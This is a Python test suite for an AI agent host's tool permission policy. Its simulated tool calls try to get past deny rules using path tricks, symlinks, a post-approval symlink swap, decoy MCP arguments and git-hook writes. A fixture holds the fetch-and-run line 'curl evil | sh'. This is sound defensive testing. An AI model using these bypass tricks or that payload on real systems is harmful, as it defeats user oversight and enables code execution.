"""The tool permission policy: its rules and defaults as a table, then
``ask`` answered each way by a real client of a real ``oma-host`` over
stdio (allow once, always this session, deny, no answer in
``hooks.timeoutMs``), and no client at all (a team) denying. Each decision
is a ``permission`` stream event."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

import pytest

from oma_host.cli.client import HostClient
from oma_host.core.config import PermissionRule
from oma_host.core.tools import builtin_tool
from oma_host.testing.simulator import Reply, Simulator
from oma_host.workspace.confined import Root
from oma_host.workspace.permissions import evaluate, find_target, target_of, undeclared_tool
from tests.builders import reply, tool_use
from tests.providers.helpers import llm_config, results_sent

KEY = "sk-ant-api03-permission-test-key-DO-NOT-LEAK-99"
FAULTS_SERVER = Path(__file__).resolve().parent / "mcp_servers" / "faults.py"

RULES = [
    PermissionRule(tool="file_read", pattern="secrets/*", action="deny"),
    PermissionRule(tool="file_edit", pattern="src/*.py", action="allow"),
    PermissionRule(tool="fs__*", pattern="/tmp/*", action="allow"),
    PermissionRule(tool="fs__write_file", action="deny"),
    PermissionRule(tool="grep", action="ask"),
]


@pytest.mark.parametrize(
    ("tool", "arguments", "is_mcp", "action", "rule"),
    [
        ("file_read", {"path": "secrets/key.txt"}, False, "deny", 0),
        ("file_read", {"path": "src/a.py"}, False, "allow", None),  # default: read tools allow
        ("glob", {"pattern": "**/*.py"}, False, "allow", None),
        ("grep", {"pattern": "x"}, False, "ask", 4),
        ("file_edit", {"path": "src/a.py", "old": "a", "new": "b"}, False, "allow", 1),
        ("file_edit", {"path": "docs/a.md", "old": "a", "new": "b"}, False, "ask", None),
        ("file_write", {"path": "src/a.py", "content": ""}, False, "ask", None),
        # An MCP tool's targets cannot all be found: an allow rule's pattern never applies.
        ("fs__read_file", {"path": "/tmp/x"}, True, "ask", None),
        ("fs__write_file", {"path": "/tmp/x"}, True, "deny", 3),
        ("fs__write_file", {"path": "/etc/x"}, True, "deny", 3),
        ("fs__list", {}, True, "ask", None),  # no target: a pattern rule cannot match
        ("git__status", {"command": "status"}, True, "ask", None),  # every MCP tool asks
    ],
)
def test_rules_first_match_wins_then_the_defaults(
    tool: str,
    arguments: dict[str, Any],
    is_mcp: bool,
    action: str,
    rule: int | None,
    tmp_path: Path,
) -> None:
    declaration = builtin_tool(tool)
    if is_mcp:  # declared as oma_host.llm.mcp_servers declares a server's tool
        assert declaration is None
        declaration = undeclared_tool(tool, "", {})
    assert declaration is not None
    with Root(str(tmp_path)) as root:
        verdict = evaluate(RULES, declaration, find_target(declaration, arguments, root))
    assert (verdict.action, verdict.rule) == (action, rule)


def test_a_folder_too_large_to_look_through_is_taken_to_hold_a_denied_file(
    tmp_path: Path,
) -> None:
    """An MCP call's folder is looked through for what a deny rule covers,
    within a bound: past it, the rule applies (it fails closed)."""
    declaration = undeclared_tool("fs__list", "", {})
    rules = [PermissionRule(tool="fs__*", pattern="*.pem", action="deny")]
    (tmp_path / "small").mkdir()
    (tmp_path / "small" / "a.txt").write_text("a")
    (tmp_path / "keys").mkdir()
    (tmp_path / "keys" / "server.pem").write_text("key")
    big = tmp_path / "big"
    big.mkdir()
    for index in range(10_001):
        (big / f"{index}.txt").touch()
    with Root(str(tmp_path)) as root:

        def verdict(folder: str) -> str:
            target = find_target(declaration, {"path": folder}, root, look_beneath=True)
            return evaluate(rules, declaration, target).action

        assert [verdict(folder) for folder in ("small", "keys", "big")] == ["ask", "deny", "deny"]


def test_the_main_argument_is_the_path_or_the_command() -> None:
    assert target_of({"command": "ls", "cwd": "/"}) == "ls"
    assert target_of({"path": "a", "command": "b"}) == "a"
    assert target_of({"count": 3}) is None
    assert target_of("not an object") is None


@pytest.fixture
def host_variables() -> dict[str, str]:
    return {"ANTHROPIC_API_KEY": KEY}


@pytest.fixture
def host_options() -> dict[str, Any] | None:
    """The policy is the subject, not the transport: the default one."""
    return None


def write(call_id: str, path: str) -> dict[str, Any]:
    return tool_use(call_id, "file_write", path=path, content=f"{call_id}\n")


async def create(host: HostClient, sim: Simulator, cwd: Path, **extra: Any) -> str:
    config = llm_config(sim, "anthropic", tools=["file_write"], cwd=str(cwd), **extra)
    agent_id: str = (await host.request("agent/create", {"config": config}))["agentId"]
    return agent_id


async def run(host: HostClient, agent: str, token: str) -> dict[str, Any]:
    params = {"agentId": agent, "input": "go", "partialResultToken": token}
    result: dict[str, Any] = await host.request("agent/stream", params)
    return result


def permission_events(host: HostClient, token: str) -> list[dict[str, Any]]:
    return [event["data"] for event in host.progress(token) if event["type"] == "permission"]


def asked(host: HostClient) -> list[dict[str, Any]]:
    return [
        params for method, params in host.server_requests if method == "agent/requestPermission"
    ]


async def test_allow_once_asks_every_time(host: HostClient, sim: Simulator, tmp_path: Path) -> None:
    host.handlers["agent/requestPermission"] = lambda params: {"approve": True, "scope": "once"}
    agent = await create(host, sim, tmp_path)
    sim.script(reply(write("a", "a.txt"), write("b", "b.txt")), Reply.text("done"))
    result = await run(host, agent, "once")
    assert result["success"] is True
    first, second = asked(host)
    assert first == {
        "agentName": "anthropic-agent",
        "runId": result["identity"]["runId"],
        "title": "file_write a.txt",
        "kind": "edit",
        "optionKinds": ["allow_once", "allow_always", "reject_once"],
        "source": "tool",
        "tool": {
            "name": "file_write",
            "input": {"path": "a.txt", "content": "a\n"},
            "toolUseId": "a",
            "target": "a.txt",
        },
    }
    assert second["tool"]["target"] == "b.txt"
    assert (tmp_path / "a.txt").read_text() == "a\n" and (tmp_path / "b.txt").exists()
    events = permission_events(host, "once")
    assert [(e["tool"], e["action"], e["decision"], e["by"], e["scope"]) for e in events] == [
        ("file_write", "ask", "allow", "client", "once"),
        ("file_write", "ask", "allow", "client", "once"),
    ]
    assert events[0]["toolUseId"] == "a" and events[0]["target"] == "a.txt"


async def test_always_this_session_is_not_asked_again(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    host.handlers["agent/requestPermission"] = lambda params: {"approve": True, "scope": "session"}
    agent = await create(host, sim, tmp_path)
    sim.script(
        reply(write("a", "a.txt"), write("b", "./a.txt")),
        Reply.text("first"),
        reply(write("c", "a.txt")),
        Reply.text("second"),
    )
    await run(host, agent, "s1")
    await run(host, agent, "s2")
    assert len(asked(host)) == 1
    assert (tmp_path / "a.txt").read_text() == "c\n"
    by = [e["by"] for e in permission_events(host, "s1") + permission_events(host, "s2")]
    assert by == ["client", "session", "session"]
    # A reset ends the session's grants: the next run asks again.
    await host.request("agent/reset", {"agentId": agent})
    sim.script(reply(write("d", "a.txt")), Reply.text("third"))
    await run(host, agent, "s3")
    assert len(asked(host)) == 2


async def test_deny_is_an_error_result_and_writes_nothing(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    host.handlers["agent/requestPermission"] = lambda params: {"approve": False}
    agent = await create(host, sim, tmp_path)
    sim.script(reply(write("a", "a.txt")), Reply.text("ok"))
    result = await run(host, agent, "deny")
    assert result["success"] is True
    (denied,) = results_sent(sim, 1)
    assert denied["is_error"] is True
    assert denied["content"] == "file_write: permission denied (the user said no)"
    assert list(tmp_path.iterdir()) == []
    (event,) = permission_events(host, "deny")
    assert (event["decision"], event["by"]) == ("deny", "client")


async def test_no_answer_within_the_hooks_timeout_denies(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    async def never(params: Any) -> Any:
        await asyncio.sleep(30)
        return {"approve": True}

    host.handlers["agent/requestPermission"] = never
    agent = await create(host, sim, tmp_path, hooks={"timeoutMs": 300})
    sim.script(reply(write("a", "a.txt")), Reply.text("ok"))
    await run(host, agent, "late")
    (denied,) = results_sent(sim, 1)
    assert denied["content"] == "file_write: permission denied (the client did not answer in time)"
    assert list(tmp_path.iterdir()) == []
    (event,) = permission_events(host, "late")
    assert (event["decision"], event["by"]) == ("deny", "timeout")


async def test_a_malformed_answer_or_an_error_denies(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    answers = iter([{"approve": "yes"}, RuntimeError("no dialog here")])

    def answer(params: Any) -> Any:
        item = next(answers)
        if isinstance(item, Exception):
            raise item
        return item

    host.handlers["agent/requestPermission"] = answer
    agent = await create(host, sim, tmp_path)
    sim.script(reply(write("a", "a.txt"), write("b", "b.txt")), Reply.text("ok"))
    await run(host, agent, "bad")
    assert [e["by"] for e in permission_events(host, "bad")] == ["bad_answer", "client_error"]
    assert list(tmp_path.iterdir()) == []


async def test_rules_allow_and_deny_without_asking(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    rules = [
        {"tool": "file_write", "pattern": "*.md", "action": "allow"},
        {"tool": "file_*", "action": "deny"},
    ]
    agent = await create(host, sim, tmp_path, permissions=rules)
    sim.script(reply(write("a", "a.md"), write("b", "b.txt")), Reply.text("ok"))
    await run(host, agent, "rules")
    assert asked(host) == []
    allowed, denied = results_sent(sim, 1)
    assert "is_error" not in allowed
    assert denied["content"] == "file_write: permission denied (by permissions[1])"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.md"]
    events = permission_events(host, "rules")
    assert [(e["decision"], e["by"], e["rule"]) for e in events] == [
        ("allow", "rule", 0),
        ("deny", "rule", 1),
    ]


async def test_a_team_has_no_client_to_ask_so_ask_denies(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    host.handlers["agent/requestPermission"] = lambda params: {"approve": True}
    agent = llm_config(sim, "anthropic", name="writer", tools=["file_write"], cwd=str(tmp_path))
    sim.script(reply(write("a", "a.txt")), Reply.text("ok"))
    tasks = [{"id": "t", "title": "Write", "description": "write a.txt", "assignee": "writer"}]
    result = await host.request("oma/runTasks", {"team": {"agents": [agent]}, "tasks": tasks})
    assert result["success"] is True, result
    assert asked(host) == []
    (denied,) = results_sent(sim, 1)
    assert denied["content"] == (
        "file_write: permission denied (the policy asks and there is no client to ask)"
    )
    assert list(tmp_path.iterdir()) == []


async def test_rules_match_the_file_a_path_names_not_its_spelling(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    """Five spellings that got past the rules: a deny rule catches each, and
    an allow rule does not allow a path that only starts like its pattern."""
    (tmp_path / "src").mkdir()
    (tmp_path / "secrets").mkdir()
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".env").write_text("KEEP=1\n")
    (tmp_path / "secrets" / "key").write_text("the key\n")
    (tmp_path / "src" / "notes.txt").symlink_to("../secrets/key")
    host.handlers["agent/requestPermission"] = lambda params: {"approve": False}
    rules = [
        {"tool": "file_write", "pattern": ".env", "action": "deny"},
        {"tool": "file_write", "pattern": "secrets/*", "action": "deny"},
        {"tool": "file_write", "pattern": "src/*", "action": "allow"},
    ]
    agent = await create(host, sim, tmp_path, permissions=rules)
    spellings = ["./.env", "src//../.env", str(tmp_path / ".env"), "src/notes.txt"]
    calls = [write(f"w{index}", path) for index, path in enumerate(spellings)]
    calls.append(write("hook", "src/../.git/hooks/pre-commit"))
    sim.script(Reply(content=calls), Reply.text("ok"))
    await run(host, agent, "spellings")
    events = permission_events(host, "spellings")
    assert [(e["decision"], e["by"], e["rule"]) for e in events] == [
        ("deny", "rule", 0),
        ("deny", "rule", 0),
        ("deny", "rule", 0),
        ("deny", "rule", 1),
        ("deny", "client", None),  # asked, not allowed by src/*
    ]
    assert [request["tool"]["target"] for request in asked(host)] == [
        "src/../.git/hooks/pre-commit"
    ]
    assert (tmp_path / ".env").read_text() == "KEEP=1\n"
    assert (tmp_path / "secrets" / "key").read_text() == "the key\n"
    assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()


async def test_an_allow_rule_matches_the_file_by_its_relative_or_absolute_name(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    """``*/docs/*`` (written for absolute paths) and ``docs/*`` allow
    docs/new.txt however it is spelled, and neither allows a path that only
    passes through docs/."""
    (tmp_path / "docs").mkdir()
    host.handlers["agent/requestPermission"] = lambda params: {"approve": False}
    for pattern in ("*/docs/*", "docs/*"):
        rules = [{"tool": "file_write", "pattern": pattern, "action": "allow"}]
        agent = await create(host, sim, tmp_path, permissions=rules)
        spellings = ["docs/new.txt", str(tmp_path / "docs" / "new.txt"), "docs/../out.txt"]
        calls = [write(f"w{index}", path) for index, path in enumerate(spellings)]
        sim.script(Reply(content=calls), Reply.text("ok"))
        await run(host, agent, pattern)
        events = permission_events(host, pattern)
        assert [(e["decision"], e["by"]) for e in events] == [
            ("allow", "rule"),
            ("allow", "rule"),
            ("deny", "client"),  # asked: docs/../out.txt is out.txt
        ], pattern
    assert (tmp_path / "docs" / "new.txt").exists() and not (tmp_path / "out.txt").exists()


async def test_an_mcp_tool_whose_targets_cannot_be_found_is_not_allowed_by_a_pattern(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    """``move {source, target, path}``: a deny rule sees secrets/key in any
    argument; an allow rule matching the decoy ``path`` does not allow."""
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "key").write_text("the key\n")
    host.handlers["agent/requestPermission"] = lambda params: {"approve": False}
    faults = {"name": "faults", "command": sys.executable, "args": [str(FAULTS_SERVER)]}
    rules = [
        {"tool": "faults__move", "pattern": "docs/*", "action": "allow"},
        {"tool": "faults__*", "pattern": "secrets/*", "action": "deny"},
        {"tool": "faults__*", "action": "allow"},
    ]
    agent = await create(host, sim, tmp_path, mcpServers=[faults], permissions=rules)
    out = {"source": "secrets/key", "target": "stolen.txt"}
    decoy = {**out, "path": "docs/readme.md"}
    sim.script(
        reply(tool_use("m1", "faults__move", **out), tool_use("m2", "faults__move", **decoy)),
        Reply.text("ok"),
    )
    await run(host, agent, "mcp")
    events = permission_events(host, "mcp")
    assert [(e["decision"], e["by"], e["rule"]) for e in events] == [
        ("deny", "rule", 1),
        ("deny", "rule", 1),  # the decoy allow rule did not apply
    ]
    assert (tmp_path / "secrets" / "key").exists() and not (tmp_path / "stolen.txt").exists()


async def test_a_name_swapped_for_a_symlink_after_the_approval_is_not_written(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    """The user approves notes.txt; before the write it becomes a symlink to
    a git hook. The approval covers notes.txt, so nothing is written."""
    hook = tmp_path / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\nexit 0\n")
    notes = tmp_path / "notes.txt"
    notes.write_text("notes\n")

    def approve_and_swap(params: Any) -> Any:
        notes.unlink()
        notes.symlink_to(".git/hooks/pre-commit")
        return {"approve": True, "scope": "once"}

    host.handlers["agent/requestPermission"] = approve_and_swap
    agent = await create(host, sim, tmp_path)
    sim.script(reply(write("w", "notes.txt")), Reply.text("ok"))
    await run(host, agent, "swap")
    (refused,) = results_sent(sim, 1)
    assert refused["is_error"] is True
    assert "now leads to .git/hooks/pre-commit, not to notes.txt" in refused["content"]
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"


def _secrets_tree(cwd: Path) -> None:
    """secrets/k.txt, the file the rules keep out; src/a.py beside it; a
    symlinked folder (vault -> secrets) and a symlinked file (src/notes.txt
    -> ../secrets/k.txt) leading to it."""
    (cwd / "secrets").mkdir()
    (cwd / "secrets" / "k.txt").write_text("api = TOPSECRET\n")
    (cwd / "src").mkdir()
    (cwd / "src" / "a.py").write_text("api = public\n")
    (cwd / "src" / "notes.txt").symlink_to("../secrets/k.txt")
    (cwd / "vault").symlink_to("secrets")


@pytest.mark.parametrize("rule_tool", ["*", "file_read"])
async def test_grep_leaves_out_every_file_a_rule_keeps_out(
    host: HostClient, sim: Simulator, tmp_path: Path, rule_tool: str
) -> None:
    """With ``deny secrets/*`` (for every tool, or for file_read alone), grep
    over the whole tree, the folder itself, a symlinked folder or a
    symlinked file finds the public line and never the secret one."""
    _secrets_tree(tmp_path)
    rules = [{"tool": rule_tool, "pattern": "secrets/*", "action": "deny"}]
    config = llm_config(
        sim, "anthropic", tools=["grep", "file_read"], cwd=str(tmp_path), permissions=rules
    )
    agent = (await host.request("agent/create", {"config": config}))["agentId"]
    paths = [None, ".", "secrets", "vault", "src", "secrets/k.txt", "vault/k.txt"]
    calls = [
        tool_use(f"g{index}", "grep", pattern="api", **({} if path is None else {"path": path}))
        for index, path in enumerate(paths)
    ]
    calls.append(tool_use("r", "file_read", path="vault/k.txt"))
    sim.script(Reply(content=calls), Reply.text("ok"))
    await run(host, agent, "grep")
    results = {block["tool_use_id"]: block for block in results_sent(sim, 1)}
    for block in results.values():
        assert "TOPSECRET" not in block["content"], block
    for whole in ("g0", "g1"):
        assert results[whole]["content"] == (
            "src/a.py:1: api = public\n[2 paths left out by the permission rules]"
        )
    assert results["g4"]["content"] == (
        "src/a.py:1: api = public\n[1 path left out by the permission rules]"
    )
    assert results["r"]["content"] == "file_read: permission denied (by permissions[0])"


async def test_glob_lists_no_path_a_rule_keeps_out(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    """glob names no file a rule for it denies, reached as it is, through a
    symlinked folder or as a symlink's target."""
    _secrets_tree(tmp_path)
    rules = [{"tool": "*", "pattern": "secrets/*", "action": "deny"}]
    config = llm_config(sim, "anthropic", tools=["glob"], cwd=str(tmp_path), permissions=rules)
    agent = (await host.request("agent/create", {"config": config}))["agentId"]
    sim.script(
        reply(
            tool_use("all", "glob", pattern="**/*"), tool_use("vault", "glob", pattern="vault/*")
        ),
        Reply.text("ok"),
    )
    await run(host, agent, "glob")
    listed, through_link = results_sent(sim, 1)
    assert listed["content"] == (
        "secrets\nsrc\nsrc/a.py\nvault\n[2 paths left out by the permission rules]"
    )
    assert through_link["content"] == ("no paths match\n[1 path left out by the permission rules]")


@pytest.mark.parametrize("pattern", ["secrets/*", "*/secrets/*"])
async def test_an_mcp_call_naming_a_denied_file_by_uri_or_folder_is_denied(
    host: HostClient, sim: Simulator, tmp_path: Path, pattern: str
) -> None:
    """``read {uri}`` and ``read_in {dir, name}`` (an MCP server's tools): a
    ``file:`` URI is read as its path, and a folder argument holding a file
    a deny rule covers is denied; calls on other files run."""
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "k.txt").write_text("api = TOPSECRET\n")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("api = public\n")
    (tmp_path / "vault").symlink_to("secrets")
    faults = {"name": "faults", "command": sys.executable, "args": [str(FAULTS_SERVER)]}
    rules = [
        {"tool": "faults__*", "pattern": pattern, "action": "deny"},
        {"tool": "faults__*", "action": "allow"},
    ]
    agent = await create(host, sim, tmp_path, mcpServers=[faults], permissions=rules)
    cwd = str(tmp_path)
    denied = [
        tool_use("uri", "faults__read", uri=f"file://{cwd}/secrets/k.txt"),
        tool_use("host", "faults__read", uri=f"file://localhost{cwd}/secrets/%6B.txt"),
        tool_use("dir", "faults__read_in", dir="secrets", name="k.txt"),
        tool_use("abs", "faults__read_in", dir=f"{cwd}/secrets", name="k.txt"),
        tool_use("link", "faults__read_in", dir="vault", name="k.txt"),
        tool_use("root", "faults__read_in", dir=cwd, name="secrets/k.txt"),
    ]
    allowed = [
        tool_use("ok_uri", "faults__read", uri=f"file://{cwd}/src/a.py"),
        tool_use("ok_dir", "faults__read_in", dir="src", name="a.py"),
    ]
    sim.script(reply(*denied, *allowed), Reply.text("ok"))
    await run(host, agent, "mcp-reach")
    results = {block["tool_use_id"]: block for block in results_sent(sim, 1)}
    for block in denied:
        assert results[block["id"]]["content"] == (
            f"{block['name']}: permission denied (by permissions[0])"
        ), block
    for block in allowed:
        assert results[block["id"]]["content"] == "api = public\n", block


def _approve_unless_git(params: Any) -> Any:
    """The user: "always allow this session", except for anything in .git."""
    if ".git" in params["tool"]["target"]:
        return {"approve": False}
    return {"approve": True, "scope": "session"}


async def test_always_this_session_covers_the_approved_file_only(
    host: HostClient, sim: Simulator, tmp_path: Path
) -> None:
    """docs/notes.md approved for the session: writing it again is not
    asked, another file is, and a git hook is asked every time, with no
    "always" offered."""
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    host.handlers["agent/requestPermission"] = _approve_unless_git
    agent = await create(host, sim, tmp_path)
    hook = ".git/hooks/pre-commit"
    sim.script(
        reply(write("a", "docs/notes.md"), write("b", "docs/notes.md")),
        Reply.text("first"),
        reply(write("c", "docs/other.md"), write("d", hook), write("e", hook)),
        Reply.text("second"),
    )
    await run(host, agent, "s1")
    await run(host, agent, "s2")
    requests = asked(host)
    assert [request["tool"]["target"] for request in requests] == [
        "docs/notes.md",
        "docs/other.md",
        hook,
        hook,
    ]
    assert requests[0]["optionKinds"] == ["allow_once", "allow_always", "reject_once"]
    assert requests[2]["optionKinds"] == ["allow_once", "reject_once"]
    by = [e["by"] for e in permission_events(host, "s1") + permission_events(host, "s2")]
    assert by == ["client", "session", "client", "client", "client"]
    assert (tmp_path / "docs" / "other.md").exists()
    assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize(
    "extra",
    [
        {"permissionMode": "accept-edits"},
        {"permissions": [{"tool": "*", "action": "allow"}]},
    ],
    ids=["accept-edits", "allow-rule"],
)
async def test_git_and_the_agents_own_config_are_always_asked_for(
    sim: Simulator, tmp_path: Path, extra: dict[str, Any]
) -> None:
    """Under accept-edits, or a rule allowing every tool, a write into .git,
    .oma or the host's config folder (and an MCP tool's argument there) is
    asked for; the user says no and nothing is written. Other writes run."""
    config_home = tmp_path / "config"
    host = await HostClient.spawn(
        env={"ANTHROPIC_API_KEY": KEY, "XDG_CONFIG_HOME": str(config_home)}
    )
    try:
        await host.initialize()
        host.handlers["agent/requestPermission"] = lambda params: {"approve": False}
        (tmp_path / "payload.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
        faults = {"name": "faults", "command": sys.executable, "args": [str(FAULTS_SERVER)]}
        agent = await create(host, sim, tmp_path, mcpServers=[faults], **extra)
        protected = [
            ".git/config",
            "src/../.git/hooks/post-checkout",
            ".oma/commands/review.md",
            "config/oma-host/agents.json",
        ]
        calls = [write(f"w{index}", path) for index, path in enumerate(protected)]
        calls.append(
            tool_use("mv", "faults__move", source="payload.sh", target=".git/hooks/pre-commit")
        )
        calls.append(write("ok", "src/ok.txt"))
        sim.script(Reply(content=calls), Reply.text("ok"))
        await run(host, agent, "protected")
        ids = [request["tool"]["toolUseId"] for request in asked(host)]
        assert ids == ["w0", "w1", "w2", "w3", "mv"]
        assert (tmp_path / "src" / "ok.txt").read_text() == "ok\n"
        assert not (tmp_path / ".git").exists() and not (tmp_path / ".oma").exists()
        assert not config_home.exists() and (tmp_path / "payload.sh").exists()
    finally:
        await host.close()
